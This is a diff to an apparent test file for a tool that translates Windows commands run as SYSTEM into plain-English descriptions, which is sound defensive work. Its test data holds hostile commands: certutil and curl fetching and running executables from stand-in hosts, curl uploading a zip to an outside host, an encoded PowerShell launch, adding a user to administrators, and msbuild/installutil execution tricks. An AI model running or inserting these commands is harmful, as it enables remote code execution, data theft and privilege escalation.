@@ -240,7 +240,7 @@ test.each([
   ],
   [
     command('cmd /c certutil -urlcache -split -f http://a.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe'),
-    'runs cmd as SYSTEM, which downloads hxxp[:]//a[.]example/x.exe with certutil and runs "%TEMP%\\x.exe"',
+    'runs cmd as SYSTEM, which downloads hxxp[:]//a[.]example/x.exe to %TEMP%\\x.exe with certutil and runs "%TEMP%\\x.exe"',
   ],
   [
     command(`cmd /v:on /c "set a=po&&set b=wershell&&!a!!b! -enc ${wide('calc.exe')}"`),
@@ -265,6 +265,29 @@ test.each([
   ],
 ])('the action is told in plain words (%#)', (consumer, words) => {
   expect(does(consumer)).toBe(words)
+})
+
+test.each([
+  ['shutdown /a', 'calls off a shutdown that was ordered before'],
+  ['shutdown -r -f -t 0', 'restarts the computer'],
+  ['shutdown /s /t 60', 'shuts down the computer'],
+  ['msiexec /x {AAAA} /qn', 'removes the product {AAAA}'],
+  ['msiexec /y C:\\x\\a.dll', 'loads the library C:\\x\\a.dll'],
+  ['msiexec /qn /i C:\\x\\a.msi', 'installs C:\\x\\a.msi'],
+  ['netsh wlan show profiles', 'is given: wlan show profiles'],
+  ['netsh advfirewall reset', 'changes the network or the firewall (advfirewall reset)'],
+  ['bcdedit /enum', 'is given: /enum'],
+  ['curl -T C:\\x.zip https://e.example/u', 'sends data to hxxps[:]//e[.]example/u'],
+  ['curl https://e.example/u -o C:\\t\\a.exe', 'downloads hxxps[:]//e[.]example/u to C:\\t\\a.exe'],
+  ['certutil -decode C:\\a.txt C:\\b.exe', 'decodes C:\\a.txt into C:\\b.exe'],
+  ['net localgroup administrators eve /add', 'adds eve to the group administrators'],
+  ['net use', 'is given: use'],
+  ['taskkill /im a.exe /im b.exe /f', 'ends the programs a.exe, b.exe'],
+  ['msbuild C:\\x\\p.xml', 'builds C:\\x\\p.xml, which runs the code in it'],
+  ['installutil /logfile= /U C:\\x\\a.dll', 'loads and runs the program library C:\\x\\a.dll'],
+  ['forfiles /m n.exe /c C:\\x\\a.exe', 'runs C:\\x\\a.exe for every file it finds'],
+])('a switch that turns the meaning round is not overlooked: %s', (line, words) => {
+  expect(does(command(line))).toBe(`runs ${line.split(' ')[0]} as SYSTEM, which ${words}`)
 })
 
 test.each([
